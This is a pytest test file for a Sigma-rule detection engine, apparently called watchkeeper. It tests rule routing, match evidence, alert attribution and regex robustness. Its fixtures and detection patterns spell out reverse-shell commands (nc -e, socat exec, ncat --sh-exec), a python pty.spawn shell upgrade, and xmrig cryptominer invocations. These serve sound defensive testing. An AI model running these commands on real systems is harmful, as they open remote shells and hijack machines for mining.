"""The engine: routing by category, evidence, alerts, robustness on hostile input."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from watchkeeper.alerts import Alert, Severity
from watchkeeper.detect import Engine, RuleMatch
from watchkeeper.events import DnsEvent, FileEvent, NetworkEvent, ProcessEvent
from watchkeeper.rules import RuleSet, parse_rules

REPO = Path(__file__).resolve().parents[2]
SIGMAHQ = REPO.parent / "shared" / "data" / "sigmahq-linux"


def rules(*docs: tuple[str, str, str]) -> RuleSet:
    """Rules from (id, category, detection body) triples."""
    texts = []
    for rule_id, category, body in docs:
        det = "".join(f"    {line}\n" for line in body.strip().splitlines())
        texts.append(
            f"title: Rule {rule_id}\nid: {rule_id}\nstatus: stable\nlevel: high\n"
            f"author: A. Author\ndescription: Detects {rule_id}.\nreferences: [https://example.org/{rule_id}]\n"
            f"tags: [attack.execution, attack.t1059.004]\n"
            f"logsource:\n    product: linux\n    category: {category}\ndetection:\n{det}"
        )
    ruleset = parse_rules("---\n".join(texts), path="engine.yml")
    assert not ruleset.issues, [str(i) for i in ruleset.issues]
    return ruleset


KEYWORD = ("kw", "process_creation", "keywords: [evil]\ncondition: keywords")
DNS = ("dns", "dns", "sel:\n  QueryName|contains: evil\ncondition: sel")


@pytest.mark.parametrize("prefilter", [True, False])
def test_rules_only_run_on_their_category(prefilter: bool) -> None:
    engine = Engine(rules(KEYWORD, DNS), prefilter=prefilter)
    assert [m.rule.id for m in engine.match(ProcessEvent(command_line="evil"))] == ["kw"]
    assert [m.rule.id for m in engine.match(DnsEvent(query_name="evil.example"))] == ["dns"]
    assert engine.match(FileEvent(path="/evil")) == []
    assert engine.match(NetworkEvent(dst_hostname="evil")) == []


def test_evidence_is_the_first_positive_match() -> None:
    body = ("sel:\n  Image|endswith: /python3\n  CommandLine|contains: 'PTY.spawn'\n"
            "filter:\n  User: root\ncondition: sel and not filter")
    engine = Engine(rules(("py", "process_creation", body)))
    event = ProcessEvent(image="/usr/bin/python3", command_line="python3 -c 'import pty; pty.spawn(\"sh\")'")
    (m,) = engine.match(event)
    assert isinstance(m, RuleMatch)
    assert (m.field, m.text, m.value) == ("Image", "/python3", "/usr/bin/python3")
    assert m.offsets == (8, 16) and m.value[8:16] == m.text


@pytest.mark.parametrize(
    ("body", "event", "field", "text"),
    [
        ("sel:\n  CommandLine|contains: 'DONATE'\ncondition: sel",
         ProcessEvent(command_line="xmrig --Donate-level=1"), "CommandLine", "Donate"),
        ("sel:\n  CommandLine|re: 'o [a-z.]+:[0-9]+'\ncondition: sel",
         ProcessEvent(command_line="xmrig -o pool.example:3333 -u x"), "CommandLine", "o pool.example:3333"),
        ("sel:\n  CommandLine|startswith: 'CURL '\ncondition: sel",
         ProcessEvent(command_line="curl -s x"), "CommandLine", "curl "),
        ("sel:\n  Image: '/usr/bin/*'\ncondition: sel",
         ProcessEvent(image="/usr/bin/nc"), "Image", "/usr/bin/"),
        ("sel:\n  Image: '/usr/*/nc'\ncondition: sel",
         ProcessEvent(image="/usr/bin/nc"), "Image", "/usr/bin/nc"),
        ("keywords: [evil]\ncondition: keywords",
         ProcessEvent(image="/bin/sh", command_line="echo EVIL"), "CommandLine", "EVIL"),
        ("sel:\n  DestinationPort: 3333\ncondition: sel",
         NetworkEvent(dst_port=3333), "DestinationPort", "3333"),
        # casefolding changes the length: offsets are mapped back to the original text
        ("sel:\n  CommandLine|contains: 'strasse'\ncondition: sel",
         ProcessEvent(command_line="Die Straße 1"), "CommandLine", "Straße"),
        ("sel:\n  CommandLine|contains: 'e 1'\ncondition: sel",
         ProcessEvent(command_line="Die Straße 1"), "CommandLine", "e 1"),
    ],
)
def test_evidence_text(body: str, event: ProcessEvent | NetworkEvent, field: str, text: str) -> None:
    category = event.category
    (m,) = Engine(rules(("r", category, body))).match(event)
    assert (m.field, m.text) == (field, text)
    assert m.offsets is not None and m.value[m.offsets[0]:m.offsets[1]] == m.text


def test_negation_only_rule_has_empty_evidence() -> None:
    body = "filter:\n  User: agent\ncondition: not filter"
    (m,) = Engine(rules(("neg", "process_creation", body))).match(ProcessEvent(user="root"))
    assert (m.field, m.text, m.offsets) == ("", "", None)


def test_alerts_carry_rule_and_event_attribution() -> None:
    body = "sel:\n  CommandLine|contains: stratum+tcp\ncondition: sel"
    engine = Engine(rules(("miner", "process_creation", body)))
    event = ProcessEvent(
        command_line="xmrig -o stratum+tcp://10.0.0.1:3333", ts=12.5, run_id="run1",
        episode_id="ep1", step=3, tool_call_id="call7", sandbox_id="sb1", span=(10, 45),
    )
    (alert,) = engine.alerts(event)
    assert isinstance(alert, Alert)
    assert alert.rule_id == "miner" and alert.title == "Rule miner"
    assert alert.severity is Severity.HIGH and alert.attack == ("T1059.004",)
    assert alert.confidence == 1.0
    assert alert.author == "A. Author" and alert.rule_source == "user"
    assert alert.description == "Detects miner." and alert.references == ("https://example.org/miner",)
    assert (alert.ts, alert.run_id, alert.episode_id, alert.step, alert.tool_call_id, alert.sandbox_id) == (
        12.5, "run1", "ep1", 3, "call7", "sb1")
    (ev,) = alert.evidence
    assert ev.event is event and ev.field == "CommandLine" and ev.text == "stratum+tcp"
    assert ev.span == (10, 45)


def test_matches_and_match_agree_and_keep_load_order() -> None:
    docs = [(f"r{i}", "process_creation", f"sel:\n  CommandLine|contains: 'tok{i}x'\ncondition: sel")
            for i in range(70)]  # more than 64 rules: masks are wider than a machine word
    engine = Engine(rules(*docs))
    event = ProcessEvent(command_line=" ".join(f"tok{i}x" for i in (69, 3, 41, 0)))
    assert [r.id for r in engine.matches(event)] == ["r0", "r3", "r41", "r69"]
    assert [m.rule.id for m in engine.match(event)] == ["r0", "r3", "r41", "r69"]


def test_foreign_values_do_not_crash() -> None:
    engine = Engine(rules(("kw", "process_creation", "keywords: ['42']\ncondition: keywords")))
    event = ProcessEvent(command_line=None, image=42)  # type: ignore[arg-type]
    assert [m.rule.id for m in engine.match(event)] == ["kw"]


def test_hostile_field_sizes_stay_fast() -> None:
    pytest.importorskip("re2", reason="the linear-time regex engine (google-re2) is not installed")
    docs = [
        ("re", "process_creation", "sel:\n  CommandLine|re: '(a|aa)*c'\ncondition: sel"),
        ("re2", "process_creation", "sel:\n  CommandLine|re: 'a.*b'\ncondition: sel"),
        ("re3", "process_creation", "sel:\n  CommandLine|re: '(a+)+b'\ncondition: sel"),
        ("glob", "process_creation", "sel:\n  CommandLine: '*a*a*a*a*a*a*b'\ncondition: sel"),
        ("q", "process_creation", "sel:\n  CommandLine: '*a?a?a?a?b*'\ncondition: sel"),
    ]
    engine = Engine(rules(*docs))
    event = ProcessEvent(command_line="a" * 2_000_000)
    start = time.perf_counter()
    assert engine.match(event) == []
    assert time.perf_counter() - start < 5.0


def test_stats_and_always_run() -> None:
    docs = [
        ("lit", "process_creation", "sel:\n  Image|endswith: /nc\ncondition: sel"),
        ("neg", "process_creation", "f:\n  Image|endswith: /nc\ncondition: not f"),
    ]
    engine = Engine(rules(*docs))
    assert [r.id for r in engine.always_run("process_creation")] == ["neg"]
    assert engine.always_run("dns") == ()
    assert engine.stats()["process_creation"] == {"rules": 2, "always_run": 1, "literals": 1, "fields": 1}


def test_from_paths(tmp_path: Path) -> None:
    ruleset = rules(("p1", "process_creation", "sel:\n  Image|endswith: /nc\ncondition: sel"))
    text = (f"title: {ruleset.rules[0].title}\nid: p1\nlogsource: {{product: linux, category: process_creation}}\n"
            "detection:\n  sel:\n    Image|endswith: /nc\n  condition: sel\n")
    (tmp_path / "p.yml").write_text(text)
    engine = Engine.from_paths([tmp_path], builtin=False)
    assert [m.rule.id for m in engine.match(ProcessEvent(image="/bin/nc"))] == ["p1"]


@pytest.mark.skipif(not SIGMAHQ.is_dir(), reason=f"SigmaHQ Linux rules not found at {SIGMAHQ}")
@pytest.mark.parametrize(
    ("event", "rule_id"),
    [
        (ProcessEvent(image="/usr/bin/xmrig", command_line="xmrig --donate-level=0 -o x"),
         "9069ea3c-b213-4c52-be13-86506a227ab1"),
        (ProcessEvent(image="/usr/bin/python3",
                      command_line="python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"),
         "c4042d54-110d-45dd-a0e1-05c47822c937"),
        (NetworkEvent(image="/bin/bash", dst_ip="203.0.113.5", dst_port=4444),
         "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"),
        (NetworkEvent(dst_ip="203.0.113.5", dst_port=4444, initiated=True),
         "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376"),
        (FileEvent(path="/etc/cron.d/job", image="/usr/bin/vi"), "6c4e2f43-d94d-4ead-b64d-97e53fa2bd05"),
    ],
)
def test_sigmahq_rules_fire(event: ProcessEvent | NetworkEvent | FileEvent, rule_id: str) -> None:
    engine = Engine.from_paths([SIGMAHQ], builtin=False)
    ids = [m.rule.id for m in engine.match(event)]
    assert rule_id in ids
    alert = next(a for a in engine.alerts(event) if a.rule_id == rule_id)
    assert alert.author  # DRL 1.1 attribution kept on the alert


@pytest.mark.skipif(not SIGMAHQ.is_dir(), reason=f"SigmaHQ Linux rules not found at {SIGMAHQ}")
def test_sigmahq_filters_hold() -> None:
    engine = Engine.from_paths([SIGMAHQ], builtin=False)
    local = NetworkEvent(dst_ip="127.0.0.1", dst_port=4444, initiated=True)
    assert "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376" not in [m.rule.id for m in engine.match(local)]


@pytest.mark.parametrize("prefilter", [True, False])
def test_or_of_regex_selections_is_combined_and_exact(prefilter: bool) -> None:
    pytest.importorskip("re2", reason="the linear-time regex engine (google-re2) is not installed")
    body = ("sel_a:\n  CommandLine|re: 'nc\\s.*-e'\nsel_b:\n  CommandLine|re|i: 'SOCAT.*exec'\n"
            "sel_c:\n  CommandLine|re: ['ncat.*--sh-exec', 'x+y']\nsel_p:\n  ParentCommandLine|re: 'nc\\s.*-e'\n"
            "filter:\n  CommandLine|contains: '-l'\ncondition: 1 of sel_* and not filter")
    engine = Engine(rules(("r", "process_creation", body)), prefilter=prefilter)
    cases = [
        ("nc 10.0.0.1 -e sh", "", True),
        ("socat tcp:x exec:sh", "", True),
        ("ncat x --sh-exec y", "", True),
        ("xxy", "", True),
        ("echo", "nc host -e sh", True),
        ("nc -l -e sh", "", False),
        ("echo", "", False),
        ("", "", False),
    ]
    for cmd, parent, expected in cases:
        event = ProcessEvent(command_line=cmd, parent_command_line=parent)
        assert bool(engine.matches(event)) is expected, cmd
        if expected:
            (m,) = engine.match(event)
            assert m.field in ("CommandLine", "ParentCommandLine") and m.text


def test_prefilter_memo_is_bounded_and_transparent(monkeypatch: pytest.MonkeyPatch) -> None:
    from watchkeeper.detect import _engine

    monkeypatch.setattr(_engine, "_MEMO_SIZE", 8)
    sel = ("c", "process_creation", "sel:\n  CommandLine|contains: 'nc -e'\n  Image|endswith: '/nc'\ncondition: sel")
    engine = Engine(rules(sel))
    hit = ProcessEvent(image="/usr/bin/nc", command_line="nc -e /bin/sh 10.0.0.1 4444")
    for i in range(40):
        # the same image text every time (memoised), a new command line each time
        miss = ProcessEvent(image="/usr/bin/nc", command_line=f"nc -z host {i}")
        assert engine.matches(miss) == []
        assert [r.id for r in engine.matches(hit)] == ["c"]
    route = engine._routes["process_creation"]
    assert 0 < len(route._memo) <= 8
    monkeypatch.setattr(_engine, "_MEMO_CHARS", 100)
    for i in range(40):
        assert engine.matches(ProcessEvent(image="/usr/bin/nc", command_line="x" * 30 + str(i))) == []
        assert route._memo_chars <= 100 + 32
